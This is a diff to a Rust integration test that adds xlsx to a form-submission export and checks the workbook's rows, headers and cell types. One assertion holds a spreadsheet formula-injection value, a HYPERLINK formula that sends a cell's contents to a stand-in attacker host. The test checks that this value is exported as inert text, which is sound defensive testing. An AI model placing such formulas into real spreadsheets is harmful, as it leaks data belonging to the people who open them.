@@ -9,6 +9,7 @@ mod common;
 
 use automerge::transaction::Transactable;
 use automerge::{AutoCommit, ReadDoc, ROOT};
+use calamine::{open_workbook, Data, Reader, Xlsx};
 use common::{fixture_form, Phone};
 use minga_core::{AnswerPath, DocId, FormRef, GeoPoint, ReviewDocument, ReviewState, Value};
 use minga_hub::access::DocKind;
@@ -195,7 +196,7 @@ fn every_export_writes_the_good_submissions_and_names_what_it_left_out() {
     let data = tempfile::tempdir().unwrap();
     let stored = store_documents(data.path());
     let out = tempfile::tempdir().unwrap();
-    for format in ["csv", "geojson", "json"] {
+    for format in ["csv", "geojson", "json", "xlsx"] {
         let printed = export(data.path(), format, &out.path().join(format));
         let said = |line: &str| {
             assert!(
@@ -276,6 +277,32 @@ fn every_export_writes_the_good_submissions_and_names_what_it_left_out() {
             .unwrap();
     assert_eq!(json["submissions"].as_array().unwrap().len(), 4);
     assert!(!out.path().join("csv/draft_census.csv").exists());
+
+    let mut book: Xlsx<_> = open_workbook(out.path().join("xlsx/safety_walk.xlsx")).unwrap();
+    let sheet = book.worksheet_range("safety_walk").unwrap();
+    assert_eq!(sheet.height(), 1 + 4, "a header and the four readable rows");
+    let header: Vec<String> = sheet
+        .rows()
+        .next()
+        .unwrap()
+        .iter()
+        .map(|c| c.to_string())
+        .collect();
+    let at = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let good = sheet
+        .rows()
+        .find(|row| row[at("KEY")] == Data::String(format!("uuid:{}", stored.good)))
+        .expect("the good submission's row");
+    assert_eq!(
+        good[at("who-respondent")],
+        Data::String("=HYPERLINK(\"https://evil.example/?\"&B2)".into()),
+        "text as answered, stored as a string, which no spreadsheet runs"
+    );
+    assert_eq!(
+        good[at("location-Longitude")],
+        Data::Float(-78.5),
+        "a number"
+    );
 }
 
 #[test]
